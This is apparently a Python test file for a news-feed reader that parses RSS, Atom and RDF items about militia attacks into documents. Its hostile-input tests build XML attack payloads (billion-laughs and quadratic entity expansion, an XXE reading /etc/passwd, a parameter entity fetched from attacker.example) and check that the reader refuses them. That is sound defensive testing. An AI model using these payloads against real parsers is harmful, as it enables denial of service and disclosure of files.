"""Reading RSS / Atom / RDF feeds: one Document per item, plain text from the item's HTML, an
error per item without text, and hostile XML (entity expansion, XXE) refused before parsing."""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path

import pytest

from claimgraph.errors import InputTooLarge, MalformedDocument, SourceError
from claimgraph.models import Document
from claimgraph.sources.feeds import iter_feed
from claimgraph.sources.files import iter_documents

FIXTURES = Path(__file__).parent / "fixtures" / "sources"
RSS = FIXTURES / "militia-watch.rss"
ATOM = FIXTURES / "conflict-desk.atom"


def read_feed(path: Path, **kwargs) -> list[Document | SourceError]:
    return list(iter_feed(path, **kwargs))


def read_error(path: Path) -> MalformedDocument:
    (err,) = read_feed(path)
    assert isinstance(err, MalformedDocument), err
    assert err.source == str(path)
    return err


def rss(*items: str, head: str = "", title: str = "Militia Watch") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{head}<rss version="2.0"><channel><title>{title}</title>'
        f"<link>https://militiawatch.example/</link>{''.join(items)}</channel></rss>\n"
    )


ITEM = "<item><title>Rockets near Erbil</title><description>Three rockets hit a base near Erbil.</description></item>"


# -- RSS, Atom, RDF ----------------------------------------------------------------------------


def test_sources_feeds_rss_items_become_documents_and_the_empty_one_an_error():
    first, second, third = read_feed(RSS)
    assert isinstance(first, Document) and isinstance(second, Document)
    assert (first.id, first.ext_id) == ("mw-2024-0117-erbil", "mw-2024-0117-erbil")  # the guid
    assert first.title == "Rockets fired at US base near Erbil airport"
    assert first.url == "https://militiawatch.example/2024/01/erbil-rockets"
    assert first.published == date(2024, 1, 17)
    assert (first.outlet, first.lang, first.kind) == ("Militia Watch", "en", "feed_item")
    assert (first.source, second.source) == (f"{RSS}#1", f"{RSS}#2")
    assert second.id == "https://militiawatch.example/2024/01/harir-drone"
    assert isinstance(third, MalformedDocument)
    assert third.source == f"{RSS}#3"
    assert third.reason == "item has no text"
    assert "the others are read" in third.hint


def test_sources_feeds_content_is_preferred_and_html_becomes_plain_paragraphs():
    first, second, _ = read_feed(RSS)
    assert first.text == (
        "ERBIL - Three rockets were fired at a base hosting US forces near Erbil airport on Tuesday night, "
        "a Kurdish security official said. No casualties were reported.\n\n"
        "The Islamic Resistance in Iraq claimed the attack & said it would continue its operations."
    )
    assert "teaser" not in first.text  # content:encoded wins over the description
    assert "alert" not in first.text and "<" not in first.text
    # an entity-escaped HTML description
    assert second.text == (
        "A drone was shot down near Harir air base, north-east of Erbil, on Sunday, a coalition official said."
        "\n\nNo one was hurt."
    )


def test_sources_feeds_raw_is_the_items_xml_as_written():
    first, second, _ = read_feed(RSS)
    assert first.raw.startswith("<item>\n      <title>Rockets fired at US base near Erbil airport</title>")
    assert first.raw.endswith("</item>")
    assert "<content:encoded><![CDATA[<p>ERBIL" in first.raw
    assert second.raw in RSS.read_text(encoding="utf-8")


def test_sources_feeds_atom_entries():
    tower, qaim = read_feed(ATOM)
    assert tower.id == "tag:conflictdesk.example,2024:tower-22"
    assert tower.title == "Drone attack kills three US soldiers in Jordan"
    assert tower.url == "https://conflictdesk.example/2024/01/29/tower-22"
    assert tower.published == date(2024, 1, 29)  # 01:30 +03:00 as written, not the UTC day before
    assert tower.outlet == "Conflict Desk"
    assert tower.text == (
        "AMMAN - A one-way attack drone struck Tower 22, a small US outpost in north-eastern Jordan, on Sunday, "
        "killing three US soldiers and injuring at least 34, the Pentagon said.\n\n"
        "The Islamic Resistance in Iraq claimed the attack."
    )
    assert qaim.published == date(2024, 2, 3)  # no <published>: <updated>
    assert qaim.text.startswith("US aircraft struck Kataib Hezbollah targets in al-Qaim")
    assert tower.raw.startswith("<entry>") and qaim.raw.endswith("</entry>")
    assert (tower.source, qaim.source) == (f"{ATOM}#1", f"{ATOM}#2")


def test_sources_feeds_rdf_rss_1_0(tmp_docs):
    path = tmp_docs.text(
        "iraq-news.rdf.xml",
        '<?xml version="1.0"?>\n'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/">'
        '<channel rdf:about="https://iraqnews.example/"><title>Iraq News</title></channel>'
        '<item rdf:about="https://iraqnews.example/1"><title>Drone attack on Harir</title>'
        "<link>https://iraqnews.example/1</link><dc:date>2024-01-22</dc:date>"
        "<description>A drone targeted Harir air base north-east of Erbil.</description></item>"
        "</rdf:RDF>\n",
    )
    (doc,) = read_feed(path)
    assert (doc.title, doc.url, doc.outlet, doc.published) == (
        "Drone attack on Harir",
        "https://iraqnews.example/1",
        "Iraq News",
        date(2024, 1, 22),
    )
    assert doc.text == "A drone targeted Harir air base north-east of Erbil."


def test_sources_feeds_item_without_guid_or_link_gets_a_positional_id(tmp_docs):
    path = tmp_docs.text("n.rss", rss(ITEM))
    (doc,) = read_feed(path)
    assert doc.id == "n#1"
    assert doc.published is None


def test_sources_feeds_item_without_title_is_titled_by_its_first_line(tmp_docs):
    path = tmp_docs.text("t.rss", rss("<item><description>Rockets hit Ain al-Asad air base.</description></item>"))
    (doc,) = read_feed(path)
    assert doc.title == "Rockets hit Ain al-Asad air base."


# -- files that are not feeds ------------------------------------------------------------------


def test_sources_feeds_not_well_formed_xml_names_line_and_column(tmp_docs):
    err = read_error(tmp_docs.text("broken.rss", "<rss>\n<channel><item><title>x</item></channel></rss>"))
    assert err.reason.startswith("not well-formed XML: mismatched tag: line 2")
    assert "xmllint" in err.hint


def test_sources_feeds_xml_that_is_not_a_feed(tmp_docs):
    err = read_error(tmp_docs.text("sitemap.xml", '<?xml version="1.0"?><urlset><url><loc>x</loc></url></urlset>'))
    assert err.reason == "not a feed: the root element is <urlset>, not <rss>, <feed> or <rdf:RDF>"
    assert "--input-format" in err.hint


def test_sources_feeds_feed_without_items(tmp_docs):
    err = read_error(tmp_docs.text("quiet.rss", rss()))
    assert err.reason == "the feed has no items"


def test_sources_feeds_empty_file(tmp_docs):
    assert read_error(tmp_docs.bytes("empty.rss", b"")).reason == "empty file"


# -- hostile input -----------------------------------------------------------------------------

BILLION_LAUGHS = FIXTURES / "billion-laughs.rss"
XXE = FIXTURES / "xxe.rss"


def quadratic_blowup(tmp_docs) -> Path:
    """One 50 KB entity referenced 20,000 times: 1 GB once expanded, from a 130 KB file."""
    entity = "A" * 50_000
    item = f"<item><title>Harir</title><description>{'&big;' * 20_000}</description></item>"
    return tmp_docs.text("quadratic.rss", rss(item, head=f'<!DOCTYPE rss [\n<!ENTITY big "{entity}">\n]>\n'))


def test_sources_feeds_billion_laughs_is_refused_before_expansion():
    err = read_error(BILLION_LAUGHS)
    assert err.reason == "refused: the feed declares XML entities ('lol'; possible entity-expansion attack)"
    assert "<!DOCTYPE" in err.hint


def test_sources_feeds_quadratic_blowup_is_refused(tmp_docs):
    err = read_error(quadratic_blowup(tmp_docs))
    assert err.reason == "refused: the feed declares XML entities ('big'; possible entity-expansion attack)"


def test_sources_feeds_xxe_is_refused_and_nothing_is_read():
    err = read_error(XXE)
    assert err.reason == (
        "refused: the feed declares an external XML entity 'xxe' (file:///etc/passwd); possible XXE attack"
    )
    assert "root:" not in str(err)


def test_sources_feeds_parameter_entity_is_refused(tmp_docs):
    head = '<!DOCTYPE rss [\n<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">\n%remote;\n]>\n'
    err = read_error(tmp_docs.text("pe.rss", rss(ITEM, head=head)))
    assert "external XML entity 'remote' (http://attacker.example/evil.dtd)" in err.reason


def test_sources_feeds_external_dtd_is_never_loaded(tmp_docs):
    dtd = tmp_docs.text("secret.dtd", '<!ENTITY secret "TOP-SECRET-CONTENT">')
    head = f'<!DOCTYPE rss SYSTEM "{dtd.as_uri()}">\n'
    item = "<item><title>x</title><description>Leak: &secret;</description></item>"
    err = read_error(tmp_docs.text("extdtd.rss", rss(item, head=head)))
    assert "undefined entity" in err.reason
    assert "TOP-SECRET" not in str(err)


def test_sources_feeds_hostile_files_do_not_stop_the_others(tmp_docs):
    huge = tmp_docs.sparse("huge.xml", 100 * 1024 * 1024)
    paths = [BILLION_LAUGHS, quadratic_blowup(tmp_docs), XXE, huge, RSS, ATOM]
    items = list(iter_documents(paths))
    errors = [i for i in items if isinstance(i, SourceError)]
    docs = [i for i in items if isinstance(i, Document)]
    assert [type(e).__name__ for e in errors[:4]] == ["MalformedDocument"] * 3 + ["InputTooLarge"]
    assert [e.source for e in errors[:4]] == [str(p) for p in paths[:4]]
    assert errors[3].reason.startswith("100.0 MiB")
    assert "--max-bytes" in errors[3].hint
    assert len(docs) == 4  # 2 of the 3 RSS items, both Atom entries
    assert all("root:" not in d.text for d in docs)


def test_sources_feeds_size_limit(tmp_docs):
    (err,) = read_feed(RSS, max_bytes=500)
    assert isinstance(err, InputTooLarge)
    assert err.source == str(RSS)


def test_sources_feeds_raw_falls_back_to_json_when_items_cannot_be_matched(tmp_docs, monkeypatch):
    from claimgraph.sources import feeds

    monkeypatch.setattr(feeds, "_item_snippets", lambda data, encoding: [])
    (doc,) = read_feed(tmp_docs.text("j.rss", rss(ITEM)))
    assert json.loads(doc.raw)["title"] == "Rockets near Erbil"


@pytest.mark.parametrize(
    ("pub_date", "expected"),
    [
        ("Sun, 28 Jan 2024 23:30:00 +0300", date(2024, 1, 28)),
        ("2024-01-28T01:00:00+03:00", date(2024, 1, 28)),
        ("2024-01-28", date(2024, 1, 28)),
        ("not a date", None),
    ],
)
def test_sources_feeds_dates_as_written(tmp_docs, pub_date, expected):
    item = ITEM.replace("</item>", f"<pubDate>{pub_date}</pubDate></item>")
    (doc,) = read_feed(tmp_docs.text("d.rss", rss(item)))
    assert doc.published == expected


def test_sources_feeds_deeply_nested_item_html_is_read_without_recursion(tmp_docs):
    nested = "&lt;div&gt;" * 20_000
    item = f"<item><title>Deep</title><description>Rockets hit the base. {nested}</description></item>"
    (doc,) = read_feed(tmp_docs.text("deep.rss", rss(item)))
    assert doc.text == "Rockets hit the base."
